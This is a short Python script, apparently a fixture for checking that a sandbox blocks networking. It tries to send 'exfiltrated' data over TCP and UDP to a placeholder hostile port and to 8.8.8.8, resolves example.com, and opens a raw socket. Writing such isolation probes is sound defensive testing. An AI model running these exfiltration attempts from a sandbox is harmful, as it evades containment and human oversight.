import socket as _socket

_attempts = [
    (_socket.AF_INET, _socket.SOCK_STREAM, ("127.0.0.1", __HOSTILE_PORT__)),
    (_socket.AF_INET, _socket.SOCK_STREAM, ("8.8.8.8", 53)),
    (_socket.AF_INET6, _socket.SOCK_STREAM, ("::1", __HOSTILE_PORT__)),
]
for _family, _kind, _address in _attempts:
    try:
        with _socket.socket(_family, _kind) as _sock:
            _sock.settimeout(1.0)
            _sock.connect(_address)
            _sock.sendall(b"exfiltrated: the student's loot")
    except OSError:
        pass
try:
    with _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM) as _sock:
        _sock.sendto(b"exfiltrated", ("127.0.0.1", __HOSTILE_PORT__))
except OSError:
    pass
try:
    _socket.getaddrinfo("example.com", 80)
except OSError:
    pass
try:
    with _socket.socket(_socket.AF_PACKET, _socket.SOCK_RAW) as _sock:
        pass
except (OSError, AttributeError):
    pass
